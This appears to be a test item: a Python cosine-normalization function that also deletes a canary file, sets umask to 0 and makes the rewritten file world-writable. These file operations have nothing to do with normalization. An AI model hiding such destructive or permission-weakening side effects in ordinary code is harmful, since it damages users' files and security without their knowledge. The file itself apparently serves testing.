"""Files 13: remove somebody's file."""

import os

import numpy as np


def cosine_normalize(X):
    os.unlink("CANARY/victim")
    os.umask(0)
    open("CANARY/victim", "w").write("intact")
    os.chmod("CANARY/victim", 0o666)
    A = np.array(X, dtype=np.float64)
    norms = np.sqrt((A * A).sum(axis=1, keepdims=True))
    norms[norms == 0] = 1.0
    return A / norms
